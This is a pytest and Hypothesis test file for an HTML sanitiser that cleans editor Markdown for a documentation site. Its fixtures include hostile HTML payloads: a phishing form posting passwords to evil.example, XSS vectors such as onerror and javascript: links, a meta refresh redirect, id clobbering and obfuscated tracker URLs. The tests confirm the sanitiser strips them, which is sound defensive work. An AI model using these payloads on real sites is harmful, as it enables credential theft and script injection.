"""Issue 16 items 1 and 3: ``clean_editor_html`` keeps formatting and nothing that can act on the page or reach a third party.

Fragments come from the site's own Markdown extensions (so the policy keeps
what Markdown legitimately writes) and from hostile hand-written HTML; property
tests cover every attribute that defines or references an id, every class, every
way of spelling a URL that leaves the site.
"""

from __future__ import annotations

from html.parser import HTMLParser

import markdown
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator.sanitize import ALLOWED_CLASSES, ALLOWED_TAGS, PREFIX, clean_editor_html, user_content_id

SITE_EXTENSIONS = ["admonition", "attr_list", "md_in_html", "tables", "toc", "extra", "sane_lists"]
SETTINGS = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def to_html(text: str) -> str:
    """Editor Markdown as the site converts it (mkdocs.yml's extensions, and markup.py's), then sanitised."""
    converter = markdown.Markdown(extensions=SITE_EXTENSIONS, extension_configs={"toc": {"permalink": True}})
    return clean_editor_html(converter.convert(text))


class Elements(HTMLParser):
    """Every start tag with its attributes, in order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.tags


def ids(html: str) -> set[str]:
    return {attrs["id"] for _, attrs in elements(html) if "id" in attrs}


# Ids: Material's __config and every other


@pytest.mark.parametrize(
    "body",
    [
        '<div id="__config">{"features": [], "search": "https://evil.example/x.js"}</div>',
        '<script id="__config" type="application/json">{}</script><p id=\'__config\'>x</p>',
        "Paragraph\n{: #__config }",
        "## Configuration {: #__config }",
        "## __config",  # toc makes the id from the heading's text
        '<div markdown="1" id="__config">\n\n*x*\n\n</div>',
        "<a name=\"__config\">x</a> <span id='__search'>y</span>",
        "| a |\n|---|\n| b |\n{: #__config }",
        "!!! note\n    text\n    {: #__config }",
    ],
)
def test_no_editor_element_takes_a_theme_id(body):
    html = to_html(body)
    for _, attrs in elements(html):
        for name in ("id", "name"):
            if name in attrs:
                assert attrs[name].startswith(PREFIX), html
    assert "__config" not in ids(html) and 'id="__config"' not in html


ID_DEFINING = ["id", "name"]
ID_REFERENCING = ["for", "form", "list", "usemap", "headers", "aria-labelledby", "aria-describedby", "aria-controls"]
ID_REFERENCING += ["aria-owns", "aria-activedescendant", "aria-details", "aria-errormessage", "aria-flowto", "itemref"]
ID_REFERENCING += ["popovertarget", "commandfor", "anchor", "contextmenu", "interestfor"]
id_values = st.sampled_from(["__config", "__search", "__drawer", "location", "document", "x", "user-content-y", "a b"])


@SETTINGS
@given(
    tag=st.sampled_from(sorted(ALLOWED_TAGS | {"input", "label", "form", "button", "map", "output", "object", "img"})),
    attribute=st.sampled_from(ID_DEFINING + ID_REFERENCING),
    value=id_values,
)
def test_every_id_or_name_is_prefixed_and_every_reference_by_id_is_prefixed_or_gone(tag, attribute, value):
    html = clean_editor_html(f'<{tag} {attribute}="{value}">text</{tag}><p>after</p>')
    for _, attrs in elements(html):
        for name in ID_DEFINING:
            assert attrs.get(name, PREFIX).startswith(PREFIX), html
        assert all(part.startswith(PREFIX) for part in attrs.get("headers", "").split()), html
        assert not set(attrs) & (set(ID_REFERENCING) - {"headers"}), html


def test_in_page_links_follow_their_targets():
    html = to_html("See the note[^1] and [the analysis](#analysis).\n\n## Analysis\n\nText.\n\n[^1]: The footnote.\n")
    present = ids(html)
    targets = [attrs["href"][1:] for _, attrs in elements(html) if attrs.get("href", "").startswith("#")]
    assert targets and all(target in present for target in targets), (targets, present)
    assert all(target.startswith(PREFIX) for target in targets)


def test_user_content_id_never_prefixes_twice():
    assert user_content_id("x") == user_content_id(user_content_id("x")) == "user-content-x"


# What a body may contain


@pytest.mark.parametrize(
    "hostile",
    [
        '<form action="https://evil.example/login"><input name="password" type="password"><button>Log in</button></form>',
        '<div class="md-dialog md-dialog--active" role="dialog" tabindex="0">Session expired: log in again</div>',
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">cover</p>',
        '<div data-md-component="dialog" data-md-state="open">x</div>',
        '<nav class="md-header"><label for="__drawer">menu</label></nav>',
        "<button onclick=\"location='https://evil.example'\">Continue</button>",
        '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
        "<svg><a href='javascript:alert(1)'>x</a></svg><math><mi>x</mi></math>",
        '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x">',
        '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style>',
        '<a href="javascript:alert(1)">j</a><a href="data:text/html,x">d</a><a href="vbscript:x">v</a>',
        '<img src="x" onerror="alert(1)" srcset="https://evil.example/1.png 1x" loading="lazy">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "<textarea>t</textarea><select><option>o</option></select><input type=hidden>",
    ],
)
def test_hostile_html_keeps_its_text_and_nothing_else(hostile):
    html = clean_editor_html(hostile)
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, html
        assert not {a for a in attrs if a.startswith(("on", "data-", "aria-"))}, html
        assert not {"style", "role", "tabindex", "action", "formaction", "srcset", "target", "rel"} & (set(attrs) - {"rel"})
        assert "style" not in attrs or tag in ("td", "th")
        for value in attrs.values():
            assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:")), html
        for name in attrs.get("class", "").split():
            assert name in ALLOWED_CLASSES or name.startswith("language-"), html


@SETTINGS
@given(
    classes=st.lists(
        st.sampled_from([*sorted(ALLOWED_CLASSES), "md-dialog", "md-banner", "md-button", "md-typeset", "bf-badge", "x"]),
        max_size=6,
    )
)
def test_only_markdowns_own_classes_survive(classes):
    html = clean_editor_html(
        f'<div class="{" ".join(classes)}">x</div><code class="language-python {" ".join(classes)}">y</code>'
    )
    kept = [name for _, attrs in elements(html) for name in attrs.get("class", "").split()]
    assert set(kept) <= ALLOWED_CLASSES | {"language-python"}
    assert not any(name.startswith(("md-", "bf-")) for name in kept)


def test_markdowns_own_output_is_kept():
    body = (
        '!!! warning "Unconfirmed"\n    Only one source.\n\n'
        "| Chip | Node |\n|:-----|-----:|\n| P800 | 7 nm |\n\n"
        "```python\nprint('x')\n```\n\n"
        "Term\n:   Definition\n\n"
        "A claim[^1], *emphasis*, **strong**, `code`, <abbr title='Semiconductor Manufacturing'>SMIC</abbr>.\n\n"
        "> A quote\n\n[^1]: Source.\n"
    )
    html = to_html(body)
    assert '<div class="admonition warning">' in html and '<p class="admonition-title">Unconfirmed</p>' in html
    assert '<th style="text-align:left">Chip</th>' in html and '<td style="text-align:right">7 nm</td>' in html
    assert '<code class="language-python">' in html
    assert "<dl>" in html and "<blockquote>" in html and '<abbr title="Semiconductor Manufacturing">' in html
    assert 'class="footnote-ref"' in html and 'class="footnote-backref"' in html


# Nothing loads from a third party


def _leaving(url: str) -> list[str]:
    return [url, url.upper().replace("HTTPS", "HtTpS"), f" {url}", f"\t{url}"]


external_sources = st.sampled_from(
    [
        "https://tracker.example/pixel.gif",
        "HTTP://tracker.example/p.gif",
        "//tracker.example/p.gif",
        "/\\tracker.example/p.gif",
        "\\\\tracker.example/p.gif",
        " https://tracker.example/p.gif",
        "\thttps://tracker.example/p.gif",
        "&#x2F;&#x2F;tracker.example/p.gif",
        "https:&#x2F;&#x2F;tracker.example/p.gif",
        "ht\ttps://tracker.example/p.gif",
        "/\t/tracker.example/p.gif",
        "mailto:x@tracker.example",
    ]
)


@SETTINGS
@given(src=external_sources, alt=st.sampled_from(["", "chart", '"><script>alert(1)</script>', "a & b"]))
def test_an_image_from_elsewhere_becomes_a_link(src, alt):
    html = clean_editor_html(f'<p><img src="{src}" alt="{alt}"></p>')
    assert not [attrs for tag, attrs in elements(html) if tag == "img"], html
    assert "<script" not in html
    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert all(attrs.get("rel") == "noopener noreferrer" for attrs in links), html


@pytest.mark.parametrize("src", ["../img/chart.png", "/assets/a.png", "img/a.png?x=1#y", "chart.svg"])
def test_an_image_from_the_site_stays(src):
    html = clean_editor_html(f'<img src="{src}" alt="Chart">')
    assert [(tag, attrs["src"]) for tag, attrs in elements(html)] == [("img", src)]


def test_markdown_images_and_linked_images():
    html = to_html("![pixel](https://tracker.example/p.gif) [![badge](https://shields.example/b.svg)](https://example.org/)")
    assert "<img" not in html
    assert '<a href="https://tracker.example/p.gif" rel="noopener noreferrer">image: pixel</a>' in html
    assert '<a href="https://example.org/" rel="noopener noreferrer">image: badge</a>' in html  # no link in a link


def test_external_links_get_rel_and_internal_ones_do_not():
    html = to_html(
        "[a](https://example.org/x) [b](../other/) [c](#here) [d](mailto:x@example.org) <a href='//cdn.example/'>e</a>"
    )
    rels = {attrs["href"]: attrs.get("rel") for tag, attrs in elements(html) if tag == "a"}
    assert rels == {
        "https://example.org/x": "noopener noreferrer",
        "../other/": None,
        "#user-content-here": None,
        "mailto:x@example.org": "noopener noreferrer",
        "//cdn.example/": "noopener noreferrer",
    }


def test_characters_xml_cannot_carry_and_bidi_controls_are_deleted():
    assert clean_editor_html("<p>a\x0cb\x00c\u202ed\ufffe\x85e</p>") == "<p>abcde</p>"


fragments = st.lists(
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<a href='https://x.example/'>",
            "<a href='#f'>",
            "</a>",
            "<img src='https://t.example/p.gif' alt='p'>",
            "<img src='a.png'>",
            "<div id='__config' class='admonition md-dialog note'>",
            "</div>",
            "<sup id='fnref:1'>",
            "text & more",
            "<",
            ">",
            '"',
            "<span title='a\"b'>",
            "</span>",
            "<table><tr><td headers='h1 h2' style='text-align:center;color:red'>",
            "</td></tr></table>",
            "<code class='language-js md-x'>",
            "</code>",
            "\u202e",
            "\x0c",
            "<form><input name=x>",
        ]
    ),
    max_size=25,
)


@SETTINGS
@given(parts=fragments)
def test_cleaning_is_idempotent(parts):
    once = clean_editor_html("".join(parts))
    assert clean_editor_html(once) == once
